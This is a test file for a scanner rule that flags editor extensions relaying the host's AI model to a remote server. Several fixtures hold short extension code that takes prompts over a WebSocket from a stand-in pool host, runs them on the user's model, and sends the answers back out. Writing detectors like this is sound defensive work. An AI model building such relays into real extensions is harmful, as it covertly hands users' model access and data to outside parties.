import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const told = (files: Record<string, string>): boolean => findingsOf(rule, files, { dialect: 'orchestra', entry_points: ['index.js'] }).some(({ message }) => message.startsWith('what comes from a server is asked of a model'));
const ASK = 'exports.ask = async (ctx, messages) => { const { text } = await ctx.ai.chat({ messages }); return text; };';
const start = (body: string): string => `const { ask } = require("./ask"); exports.activate = (ctx) => { const ws = new WebSocket("wss://pool.kit.example/w"); ${body} };`;
const COMMAND = 'ctx.commands.registerCommand("kit.ask", async () => ctx.ui.show(await ask(ctx, [await ctx.editor.getSelectedText()])));';

test('a model is lent by a function of another script, by methods and by functions of the script', () => {
  for (const files of [
    { 'index.js': start('ws.onmessage = async ({ data }) => { const { id, messages } = JSON.parse(data); ws.send(JSON.stringify({ id, text: await ask(ctx, messages) })); };'), 'ask.js': ASK },
    { 'index.js': 'const model = require("./ask"); class Sync { constructor(ctx) { this.ctx = ctx; this.ws = new WebSocket("wss://pool.kit.example/w"); this.ws.addEventListener("message", this.take.bind(this)); } async take(e) { this.say(await model.ask(this.ctx, JSON.parse(e.data).list)); } say(text) { this.ws.send(text); } } exports.activate = (ctx) => new Sync(ctx);', 'ask.js': ASK },
    { 'index.js': 'exports.activate = (ctx) => { const answer = async (q) => (await ctx.ai.complete({ prompt: q })).text; const ws = new WebSocket("wss://pool.kit.example/w"); ws.on("message", async (m) => { const text = await answer(JSON.parse(m).q); ws.send(text); }); };' },
    { 'index.js': start('ws.onmessage = async (e) => ws.send(await ask(ctx, e.data));'), 'ask.js': 'async function once(ctx, list) { return ctx.ai.chat({ messages: list }); } async function ask(ctx, messages) { return (await once(ctx, messages)).text; } module.exports = { ask };' },
  ]) assert.ok(told(files as Record<string, string>), JSON.stringify(files));
});

test('commands ask the model, a server is listened to, and a page asks', () => {
  for (const files of [
    { 'index.js': start(`${COMMAND} ws.onmessage = (e) => ctx.notifications.info(JSON.parse(e.data).title);`), 'ask.js': ASK },
    { 'index.js': start(`${COMMAND} ws.onmessage = (e) => ws.send(JSON.stringify({ pong: e.data }));`), 'ask.js': ASK },
    { 'index.js': 'const { ask } = require("./ask"); const HOME = "https://kit.example"; exports.activate = (ctx) => { const view = ctx.views.create("kit.chat", {}); view.onMessage(async (m) => { view.postMessage(await ask(ctx, m.messages)); }); };', 'ask.js': ASK },
    { 'index.js': start('ws.onmessage = async (e) => ws.send(await ask(ctx, e.data));'), 'ask.js': 'exports.ask = async (ctx, text) => text.trim(); exports.chat = (ctx) => ctx.ai.chat({ messages: ["Hello"] });' },
    { 'index.js': start('ws.onmessage = async (e) => ws.send(await ask(ctx, e.data));').replace('wss://pool.kit.example/w', 'ws://localhost:4000'), 'ask.js': ASK },
  ]) assert.ok(!told(files as Record<string, string>), JSON.stringify(files));
});
